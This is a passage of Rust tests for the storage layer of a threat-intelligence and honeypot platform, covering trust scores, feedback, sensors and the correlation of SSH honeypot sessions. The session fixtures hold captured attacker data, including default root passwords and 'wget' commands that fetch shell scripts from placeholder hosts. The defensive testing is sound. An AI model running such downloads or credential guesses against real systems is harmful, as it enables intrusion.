    s.update_sources(vec![up(b.id, Tier::Established), up(own.id, Tier::Seed), up(999_999, Tier::Established)]).await.unwrap();
    let bob = s.list_sources().await.unwrap().into_iter().find(|x| x.feed_id == b.id).unwrap();
    assert_eq!((bob.tier, bob.alpha, bob.beta, bob.leads, bob.penalties, bob.group_id), (Tier::Established, 12.0, 9.5, 11, 1, Some(3)));
    assert_eq!(bob.last_penalty, Some(t("2026-01-02T00:00:00Z")));
    let q = s.set_source_tier("bob", "list", Tier::Quarantined).await.unwrap();
    assert_eq!((q.tier, q.pinned, q.leads), (Tier::Quarantined, true, 11), "setting a tier keeps the history");
    s.update_sources(vec![up(b.id, Tier::Established)]).await.unwrap();
    let bob = s.list_sources().await.unwrap().into_iter().find(|x| x.feed_id == b.id).unwrap();
    assert_eq!((bob.tier, bob.pinned, bob.alpha), (Tier::Quarantined, true, 12.0), "pinned: reliability moves, the tier does not");
    let p = s.set_source_tier("bob", "list", Tier::Probation).await.unwrap();
    assert_eq!((p.tier, p.pinned), (Tier::Probation, false), "probation unpins");
    let a = s.set_source_asn("bob", "list", Some(64_500)).await.unwrap();
    assert_eq!((a.asn, a.tier), (Some(64_500), Tier::Probation));
    assert!(matches!(s.set_source_tier("bob", "nope", Tier::Seed).await, Err(StoreError::NotFound(_))));
}

pub async fn trust_scores_are_replaced_and_read_back(s: &dyn Store) {
    use apiary_core::trust::score::ScoreTier;
    let score = |v: &str, c: u8, tier: ScoreTier, lo: Option<f64>| crate::IndicatorScore {
        indicator: v.into(),
        itype: IType::Ipv4,
        confidence: c,
        tier,
        log_odds: lo,
        explanation: serde_json::json!({"confidence": c, "terms": [{"term": "prior", "value": -3.0}]}),
        scored_at: t("2026-01-01T00:00:00Z"),
    };
    assert!(s.get_score("192.0.2.1").await.unwrap().is_none());
    assert_eq!(s.scores_updated_at().await.unwrap(), None);
    s.put_scores(vec![score("192.0.2.1", 40, ScoreTier::Observe, Some(-0.4)), score("192.0.2.2", 0, ScoreTier::Observe, None)]).await.unwrap();
    s.put_scores(vec![score("192.0.2.1", 97, ScoreTier::Block, Some(3.6))]).await.unwrap();
    assert_eq!(s.scores_updated_at().await.unwrap(), Some(t("2026-01-01T00:00:00Z")));
    let got = s.get_score("192.0.2.1").await.unwrap().unwrap();
    assert_eq!((got.confidence, got.tier, got.log_odds), (97, ScoreTier::Block, Some(3.6)), "replaced");
    assert_eq!(got.explanation["terms"][0]["term"], "prior");
    assert_eq!(s.get_score("192.0.2.2").await.unwrap().unwrap().log_odds, None, "excluded: no log-odds");
    let mut tiers = s.score_tiers(&["192.0.2.1".into(), "192.0.2.2".into(), "192.0.2.3".into()]).await.unwrap();
    tiers.sort();
    assert_eq!(tiers, vec![("192.0.2.1".to_string(), 97, ScoreTier::Block), ("192.0.2.2".to_string(), 0, ScoreTier::Observe)]);
}

pub async fn trust_feedback_and_retractions_are_kept(s: &dyn Store) {
    use crate::{FeedbackKind, NewFeedback};
    let alice = user(s, "alice").await;
    let bob = user(s, "bob").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let b = feed(s, "alice", "b", Visibility::Public).await;
    let fb = |kind, v: &str, feed_id, user_id, reason: &str| NewFeedback { kind, indicator: v.into(), itype: IType::Ipv4, feed_id, user_id, reason: reason.into() };
    let fp = s.add_feedback(fb(FeedbackKind::FalsePositive, "192.0.2.1", None, bob.id, "our mail server")).await.unwrap();
    assert_eq!((fp.kind, fp.user.as_str(), fp.feed.as_deref(), fp.reason.as_str()), (FeedbackKind::FalsePositive, "bob", None, "our mail server"));
    let r = s.add_feedback(fb(FeedbackKind::Retraction, "192.0.2.1", Some(a.id), alice.id, "my own scanner")).await.unwrap();
    assert_eq!((r.feed.as_deref(), r.feed_id), (Some("alice/a"), Some(a.id)));
    s.add_feedback(fb(FeedbackKind::Retraction, "192.0.2.9", Some(b.id), alice.id, "typo")).await.unwrap();
    assert!(matches!(s.add_feedback(fb(FeedbackKind::Retraction, "192.0.2.1", None, alice.id, "x")).await, Err(StoreError::Invalid(_))));
    assert!(matches!(s.add_feedback(fb(FeedbackKind::FalsePositive, "192.0.2.1", None, bob.id, "  ")).await, Err(StoreError::Invalid(_))), "a reason is required");
    assert!(matches!(s.add_feedback(fb(FeedbackKind::Retraction, "192.0.2.1", Some(999_999), alice.id, "x")).await, Err(StoreError::NotFound(_))));

    let all = s.feedback_after(0, 100).await.unwrap();
    assert_eq!(all.len(), 3);
    assert_eq!(s.feedback_after(all[0].id, 1).await.unwrap()[0].id, all[1].id, "after an id, in id order");
    assert_eq!(s.feedback_of("192.0.2.1").await.unwrap().len(), 2);
    let mut every = s.retractions(None).await.unwrap();
    every.sort();
    assert_eq!(every, vec![(a.id, "192.0.2.1".to_string()), (b.id, "192.0.2.9".to_string())]);
    assert_eq!(s.retractions(Some(&[a.id])).await.unwrap(), vec![(a.id, "192.0.2.1".to_string())]);
    assert!(s.retractions(Some(&[])).await.unwrap().is_empty());
}

pub async fn trust_log_read_matches_the_sightings_log(s: &dyn Store) {
    let alice = user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let mut batch = Vec::new();
    for i in 0..5 {
        let mut new = sighting(&a, &alice, IType::Ipv4, &format!("192.0.2.{i}"), "2026-01-01T00:00:00Z");
        new.tags = if i % 2 == 0 { vec!["login".into(), "scanner".into()] } else { Vec::new() };
        new.sensor = Some("pot-1".into());
        batch.push(new);
    }
    s.append_sightings(batch).await.unwrap();
    let full = s.sightings_after(0, None, 100).await.unwrap();
    let lean = s.trust_sightings_after(0, 100).await.unwrap();
    let from_full: Vec<crate::TrustSighting> = full.into_iter().map(crate::TrustSighting::from).collect();
    assert_eq!(lean, from_full);
    assert_eq!(s.trust_sightings_after(lean[2].seq, 2).await.unwrap(), lean[3..5].to_vec());
}

pub async fn feed_presence_pages_values_with_their_feeds(s: &dyn Store) {
    let u = user(s, "cmp").await;
    let a = feed(s, "cmp", "a", Visibility::Public).await;
    let b = feed(s, "cmp", "b", Visibility::Private).await;
    let mut batch = vec![
        sighting(&a, &u, IType::Ipv4, "198.51.100.1", "2024-01-01T00:00:00Z"),
        sighting(&a, &u, IType::Ipv4, "198.51.100.1", "2024-01-03T00:00:00Z"),
        sighting(&b, &u, IType::Ipv4, "198.51.100.1", "2024-01-02T00:00:00Z"),
        sighting(&b, &u, IType::Fqdn, "evil.example", "2024-01-05T00:00:00Z"),
        sighting(&a, &u, IType::Ipv4, "10.0.0.1", "2024-01-04T00:00:00Z"),
    ];
    batch[4].reserved = Some("private".into());
    batch[3].tags = vec!["login".into()];
    s.append_sightings(batch).await.expect("append");
    assert!(s.feed_presence_after(0, 100).await.expect("empty page past the end")
        .iter().all(|v| !v.feeds.is_empty()));
    // Page by one value at a time: every value once, in id order, with all its feeds.
    let mut seen = Vec::new();
    let mut after = 0;
    loop {
        let page = s.feed_presence_after(after, 1).await.expect("page");
        if page.is_empty() {
            break;
        }
        assert_eq!(page.len(), 1, "a page of one value holds one value, whatever its feeds");
        assert!(page[0].indicator_id > after, "ids increase");
        after = page[0].indicator_id;
        seen.extend(page);
    }
    let by_value = |v: &str| seen.iter().find(|x| x.value == v).unwrap_or_else(|| panic!("{v} read"));
    assert_eq!(seen.len(), 3);
    let ip = by_value("198.51.100.1");
    assert_eq!(ip.itype, IType::Ipv4);
    assert_eq!(ip.feeds.iter().map(|p| p.feed_id).collect::<Vec<_>>(), {
        let mut ids = vec![a.id, b.id];
        ids.sort();
        ids
    });
    let in_a = ip.feeds.iter().find(|p| p.feed_id == a.id).expect("a lists it");
    assert_eq!((in_a.firsttime, in_a.lasttime), (t("2024-01-01T00:00:00Z"), t("2024-01-03T00:00:00Z")));
    assert_eq!(by_value("evil.example").feeds.len(), 1);
    assert_eq!(by_value("evil.example").feeds[0].tags, vec!["login".to_string()]);
    assert_eq!(by_value("10.0.0.1").reserved.as_deref(), Some("private"));
    // One page with everything gives the same.
    let all = s.feed_presence_after(0, 1000).await.expect("one page");
    assert_eq!(all, seen);
}

pub async fn feed_comparison_is_replaced_and_read_back(s: &dyn Store) {
    use apiary_core::trust::compare::{compare, FeedInfo};
    use apiary_core::trust::groups::Groups;
    use apiary_core::trust::score::{ScoreParams, Scorer};
    assert_eq!(s.get_feed_comparison().await.expect("read before any run"), None);
    let scorer = Scorer::new(ScoreParams::default(), &[], &Groups::singletons(0));
    let feeds = vec![FeedInfo { id: 7, name: "a/b".into(), trusted: true, network: 0 }];
    let mut first = compare(&feeds, &[], &scorer, 1_700_000_000);
    first.trusted_by = "test".into();
    s.put_feed_comparison(&first).await.expect("put");
    assert_eq!(s.get_feed_comparison().await.expect("get"), Some(first.clone()));
    let second = compare(&[], &[], &scorer, 1_700_000_600);
    s.put_feed_comparison(&second).await.expect("replace");
    assert_eq!(s.get_feed_comparison().await.expect("get"), Some(second));
}

// ---------------------------------------------------------------- sessions and sensors

fn session(sensor: &str, id: &str, attacker: &str, start: &str, events: u64) -> apiary_core::sessions::SessionRecord {
    use apiary_core::sessions::*;
    SessionRecord {
        sensor: sensor.into(),
        session: id.into(),
        attacker: Some(attacker.into()),
        attacker_port: Some(40000),
        honeypot_ip: Some("10.0.0.5".into()),
        honeypot_port: Some(2222),
        protocol: Some("ssh".into()),
        start: Some(t(start)),
        end: Some(t(start) + Duration::seconds(30)),
        duration: Some(30.0),
        client_version: Some("SSH-2.0-Go".into()),
        hassh: Some("51cba57125523ce4b9db67714a90bf6e".into()),
        credentials: vec![
            SessionCredential { username: Some("root".into()), password: Some("1234".into()), ..Default::default() },
            SessionCredential { username: Some("root".into()), password: Some("admin".into()), success: true, ..Default::default() },
        ],
        login_success: true,
        commands: vec!["uname -a".into(), "wget http://198.51.100.80/x.sh".into()],
        downloads: vec![apiary_core::sessions::Transfer {
            url: Some("http://198.51.100.80/x.sh".into()),
            sha256: Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into()),
        }],
        uploads: Vec::new(),
        tunnels: vec![TunnelTarget { host: "mail.example.net".into(), port: Some(25) }],
        ttylog_sha256: Some("60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752".into()),
        depth: "payload".into(),
        events,
        closed: true,
    }
}

pub async fn sessions_are_stored_once_and_replaced_by_more_complete_versions(s: &dyn Store) {
    user(s, "alice").await;
    let f = feed(s, "alice", "pots", Visibility::Public).await;
    let full = session("pot-1", "abc123", "192.0.2.10", "2024-05-01T10:00:00Z", 12);
    let new = |r: &apiary_core::sessions::SessionRecord| NewSession { feed_id: f.id, record: r.clone() };
    let out = s.append_sessions(vec![new(&full)]).await.unwrap();
    assert_eq!((out.stored, out.replaced, out.duplicates), (1, 0, 0));
    // The same session again, or a less complete version of it: nothing changes.
    let mut partial = full.clone();
    partial.events = 3;
    partial.commands.clear();
    let out = s.append_sessions(vec![new(&full), new(&partial)]).await.unwrap();
    assert_eq!((out.stored, out.replaced, out.duplicates), (0, 0, 2));
    let q = SessionQuery { attacker: Some("192.0.2.10".into()), limit: 10, ..Default::default() };
    let got = s.query_sessions(&q).await.unwrap();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].record, full, "every field is kept");
    assert_eq!(got[0].feed, "alice/pots");
    // A more complete version replaces it (and its payloads).
    let mut more = full.clone();
    more.events = 20;
    more.downloads[0].sha256 = Some("a".repeat(64));
    let out = s.append_sessions(vec![new(&more)]).await.unwrap();
    assert_eq!((out.stored, out.replaced, out.duplicates), (0, 1, 0));
    let got = s.query_sessions(&q).await.unwrap();
    assert_eq!(got.len(), 1);
    assert_eq!(got[0].record, more);
    let by_old = SessionQuery { payload: Some(full.downloads[0].sha256.clone().unwrap()), limit: 10, ..Default::default() };
    assert!(s.query_sessions(&by_old).await.unwrap().is_empty(), "the replaced version's payload is gone");
    // The same session id on another sensor is another session.
    let other = session("pot-2", "abc123", "192.0.2.10", "2024-05-01T10:00:00Z", 12);
    assert_eq!(s.append_sessions(vec![new(&other)]).await.unwrap().stored, 1);
    // A bad sensor name is refused.
    let mut bad = full.clone();
    bad.sensor = String::new();
    assert!(matches!(s.append_sessions(vec![new(&bad)]).await, Err(StoreError::Invalid(_))));
}

pub async fn sessions_are_queried_by_attacker_sensor_payload_and_link(s: &dyn Store) {
    use apiary_core::sessions::{Link, LinkKind};
    user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let b = feed(s, "alice", "b", Visibility::Private).await;
    let mut later = session("pot-2", "s2", "192.0.2.10", "2024-05-02T10:00:00Z", 5);
    later.downloads.clear();
    later.commands = vec!["cd  /tmp".into(), "wget http://203.0.113.9/y.sh".into()];
    let batch = vec![
        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: later },
        NewSession { feed_id: a.id, record: session("pot-1", "s3", "2001:db8::7", "2024-05-03T10:00:00Z", 5) },
    ];
    s.append_sessions(batch).await.unwrap();
    let ids = |v: Vec<StoredSession>| v.into_iter().map(|x| x.record.session).collect::<Vec<_>>();
    let q = |f: &dyn Fn(&mut SessionQuery)| {
        let mut q = SessionQuery { limit: 100, ..Default::default() };
        f(&mut q);
        q
    };
    assert_eq!(ids(s.query_sessions(&q(&|q| q.attacker = Some("192.0.2.10".into()))).await.unwrap()), ["s1", "s2"]);
    let newest = q(&|q| {
        q.attacker = Some("192.0.2.10".into());
        q.newest_first = true;
    });
    assert_eq!(ids(s.query_sessions(&newest).await.unwrap()), ["s2", "s1"]);
    assert_eq!(ids(s.query_sessions(&q(&|q| q.feed_ids = Some(vec![a.id]))).await.unwrap()), ["s1", "s3"]);
    assert!(s.query_sessions(&q(&|q| q.feed_ids = Some(vec![]))).await.unwrap().is_empty());
    assert_eq!(ids(s.query_sessions(&q(&|q| q.sensor = Some("pot-2".into()))).await.unwrap()), ["s2"]);
    let sha = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    assert_eq!(ids(s.query_sessions(&q(&|q| q.payload = Some(sha.into()))).await.unwrap()), ["s1", "s3"]);
    let key = apiary_core::sessions::commands_key(&["uname -a".into(), "wget http://x.example/z".into()]).unwrap();
    let by_cmds = q(&|q| q.link = Some(Link { kind: LinkKind::Commands, key: key.clone() }));
    assert_eq!(ids(s.query_sessions(&by_cmds).await.unwrap()), ["s1", "s3"], "normalised: the URL differs");
    assert_eq!(ids(s.query_sessions(&q(&|q| q.limit = 1)).await.unwrap()).len(), 1);
}

pub async fn sessions_give_the_links_of_campaigns(s: &dyn Store) {
    use apiary_core::sessions::{campaigns, LinkKind};
    user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let b = feed(s, "alice", "b", Visibility::Public).await;
    let mut lone = session("pot-9", "s9", "198.51.100.99", "2024-05-04T10:00:00Z", 2);
    lone.downloads.clear();
    lone.ttylog_sha256 = None;
    lone.commands.clear();
    lone.hassh = None;
    let mut no_links = lone.clone();
    no_links.session = "s10".into();
    no_links.credentials.clear();
    s.append_sessions(vec![
        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: session("pot-2", "s2", "192.0.2.11", "2024-05-02T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: lone },
        NewSession { feed_id: b.id, record: no_links },
    ])
    .await
    .unwrap();
    let all = s.session_links(None).await.unwrap();
    assert_eq!(all.len(), 2, "sessions without any link key are not read: {all:?}");
    let found = campaigns(&all, 2, &|_| None);
    let kinds: HashSet<LinkKind> = found.iter().map(|c| c.kind).collect();
    assert_eq!(kinds.len(), 4, "payload, tty log, commands, HASSH + credentials: {found:?}");
    for c in &found {
        assert_eq!(c.attackers, ["192.0.2.10", "192.0.2.11"]);
        assert_eq!(c.sensors.len(), 2);
    }
    assert_eq!(s.session_links(Some(&[a.id])).await.unwrap().len(), 1);
    assert!(s.session_links(Some(&[])).await.unwrap().is_empty());
}

pub async fn sensors_are_registered_listed_and_removed(s: &dyn Store) {
    user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    let b = feed(s, "alice", "b", Visibility::Public).await;
    let new = |feed_id, name: &str, asn, prefix: Option<&str>| NewSensor { feed_id, name: name.into(), asn, prefix: prefix.map(str::to_owned) };
    let x = s.upsert_sensor(new(a.id, "pot-1", Some(64500), None)).await.unwrap();
    assert_eq!((x.name.as_str(), x.asn, x.network().as_deref()), ("pot-1", Some(64500), Some("AS64500")));
    s.upsert_sensor(new(a.id, "pot-2", None, Some("198.51.100.0/24"))).await.unwrap();
    s.upsert_sensor(new(b.id, "pot-1", None, None)).await.unwrap();
    // Re-declaring changes the network.
    let x = s.upsert_sensor(new(a.id, "pot-1", Some(64501), Some("203.0.113.0/24"))).await.unwrap();
    assert_eq!((x.asn, x.prefix.as_deref()), (Some(64501), Some("203.0.113.0/24")));
    let names = |v: Vec<Sensor>| v.into_iter().map(|x| (x.feed_id, x.name)).collect::<Vec<_>>();
    assert_eq!(names(s.list_sensors(Some(&[a.id])).await.unwrap()), [(a.id, "pot-1".into()), (a.id, "pot-2".into())]);
    assert_eq!(s.list_sensors(None).await.unwrap().len(), 3);
    assert!(matches!(s.upsert_sensor(new(a.id, "", None, None)).await, Err(StoreError::Invalid(_))));
    assert!(matches!(s.upsert_sensor(new(a.id + b.id + 100, "x", None, None)).await, Err(StoreError::NotFound(_))));
    s.delete_sensor(a.id, "pot-2").await.unwrap();
    assert!(matches!(s.delete_sensor(a.id, "pot-2").await, Err(StoreError::NotFound(_))));
    assert_eq!(names(s.list_sensors(Some(&[a.id])).await.unwrap()), [(a.id, "pot-1".into())]);
    // Sensors seen in sessions, registered or not.
    s.append_sessions(vec![
        NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
        NewSession { feed_id: a.id, record: session("pot-7", "s2", "192.0.2.10", "2024-05-02T10:00:00Z", 5) },
        NewSession { feed_id: a.id, record: session("pot-7", "s3", "192.0.2.11", "2024-05-03T10:00:00Z", 5) },
    ])
    .await
    .unwrap();
    let seen = s.sensors_seen(Some(&[a.id])).await.unwrap();
    let got: Vec<(String, u64)> = seen.iter().map(|x| (x.name.clone(), x.sessions)).collect();
    assert_eq!(got, [("pot-1".to_string(), 1), ("pot-7".to_string(), 2)]);
    assert_eq!(seen[1].first_seen, Some(t("2024-05-02T10:00:00Z")));
    assert_eq!(seen[1].last_seen, Some(t("2024-05-03T10:00:30Z")));
    // Attackers by sensor.
    let pairs = s.attacker_sensors(Some(&[a.id])).await.unwrap();
    let got: Vec<(String, String, u64)> = pairs.iter().map(|p| (p.attacker.clone(), p.sensor.clone(), p.sessions)).collect();
    assert_eq!(
        got,
        [
            ("192.0.2.10".to_string(), "pot-1".to_string(), 1),
            ("192.0.2.10".to_string(), "pot-7".to_string(), 1),
            ("192.0.2.11".to_string(), "pot-7".to_string(), 1)
        ]
    );
    assert!(s.attacker_sensors(Some(&[b.id])).await.unwrap().is_empty());
    // The same log imported into feed b too: a session is (sensor, session id), counted once,
    // under the lowest feed; only b's own session is b's.
    s.append_sessions(vec![
        NewSession { feed_id: b.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: session("pot-7", "s2", "192.0.2.10", "2024-05-02T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: session("pot-7", "s3", "192.0.2.11", "2024-05-03T10:00:00Z", 5) },
        NewSession { feed_id: b.id, record: session("pot-9", "s4", "192.0.2.11", "2024-05-04T10:00:00Z", 5) },
    ])
    .await
    .unwrap();
    let pairs = s.attacker_sensors(Some(&[a.id, b.id])).await.unwrap();
    let got: Vec<(String, i64, String, u64)> = pairs.iter().map(|p| (p.attacker.clone(), p.feed_id, p.sensor.clone(), p.sessions)).collect();
    assert_eq!(
        got,
        [
            ("192.0.2.10".to_string(), a.id, "pot-1".to_string(), 1),
            ("192.0.2.10".to_string(), a.id, "pot-7".to_string(), 1),
            ("192.0.2.11".to_string(), a.id, "pot-7".to_string(), 1),
            ("192.0.2.11".to_string(), b.id, "pot-9".to_string(), 1)
        ]
    );
    assert_eq!(pairs[0].first_seen, Some(t("2024-05-01T10:00:00Z")));
    let mut links: Vec<(i64, String, String)> =
        s.session_links(Some(&[b.id])).await.unwrap().into_iter().map(|l| (l.feed_id, l.sensor, l.session)).collect();
    links.sort();
    let want: Vec<(i64, String, String)> =
        [("pot-1", "s1"), ("pot-7", "s2"), ("pot-7", "s3"), ("pot-9", "s4")].iter().map(|(x, y)| (b.id, x.to_string(), y.to_string())).collect();
    assert_eq!(links, want, "each session with its id, for correlation to count it once");
}

pub async fn sessions_and_sensors_go_with_their_feed(s: &dyn Store) {
    user(s, "alice").await;
    let a = feed(s, "alice", "a", Visibility::Public).await;
    s.upsert_sensor(NewSensor { feed_id: a.id, name: "pot-1".into(), asn: Some(64500), prefix: None }).await.unwrap();
    s.append_sessions(vec![NewSession { feed_id: a.id, record: session("pot-1", "s1", "192.0.2.10", "2024-05-01T10:00:00Z", 5) }])
        .await
        .unwrap();
    s.delete_feed("alice", "a").await.unwrap();
    let b = feed(s, "alice", "b", Visibility::Public).await;
    let q = SessionQuery { attacker: Some("192.0.2.10".into()), limit: 10, ..Default::default() };
    assert!(s.query_sessions(&q).await.unwrap().is_empty());
    assert!(s.list_sensors(Some(&[a.id, b.id])).await.unwrap().is_empty());
    assert!(s.session_links(None).await.unwrap().is_empty());
}
